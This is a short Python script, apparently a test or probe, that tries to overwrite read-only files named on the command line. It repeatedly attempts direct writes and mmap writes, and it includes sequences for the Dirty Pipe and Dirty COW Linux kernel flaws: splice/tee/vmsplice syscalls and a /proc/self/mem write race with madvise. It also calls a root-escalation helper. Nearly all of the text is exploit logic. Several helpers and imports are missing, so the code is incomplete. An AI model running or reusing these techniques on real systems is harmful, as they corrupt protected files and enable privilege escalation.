# K31: the shared lower layer, scribbled on by every call that ever reached a page cache it should not.
import mmap
if "root" in sys.argv:
    as_root()
SPOIL = b"#hostile\n"
for path in sys.argv[2:]:
    attempt(lambda: open(path, "r+b").write(SPOIL))
    attempt(lambda: open(path, "wb").write(SPOIL))
    reader = attempt(os.open, path, os.O_RDONLY)
    if not isinstance(reader, int):
        continue
    for flags in (mmap.MAP_SHARED, mmap.MAP_PRIVATE):
        def scribble():
            view = mmap.mmap(reader, 0, flags=flags, prot=mmap.PROT_READ | mmap.PROT_WRITE)
            view[:len(SPOIL)] = SPOIL
        attempt(scribble)
    # Dirty Pipe: a spliced page, then a write that the pipe merges into it.
    taken, given = os.pipe()
    for _ in range(16):
        attempt(os.write, given, b"x" * 4096)
        attempt(os.read, taken, 4096)
    attempt(syscall, 275, reader, 0, given, 0, 1, 0)
    attempt(syscall, 276, reader, given, 1, 0)
    attempt(syscall, 278, given, ctypes.create_string_buffer(SPOIL), 1, 0)
    attempt(os.write, given, SPOIL)
    # A sendfile whose pages a local receiver could write to.
    left, right = socket.socketpair()
    attempt(os.sendfile, left.fileno(), reader, 0, 4096)
    attempt(os.copy_file_range, reader, reader, 9, 0, 9)
    # Dirty COW: drop the private copy while it is written through /proc.
    def race():
        view = mmap.mmap(reader, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
        address = ctypes.c_long()
        found = [line for line in open("/proc/self/maps") if path in line]
        start = int(found[0].split("-")[0], 16)
        end = time.time() + 0.3
        memory = os.open("/proc/self/mem", os.O_RDWR)
        while time.time() < end:
            attempt(os.pwrite, memory, SPOIL, start)
            libc.madvise(ctypes.c_void_p(start), 4096, 4)
    attempt(race)
hold()
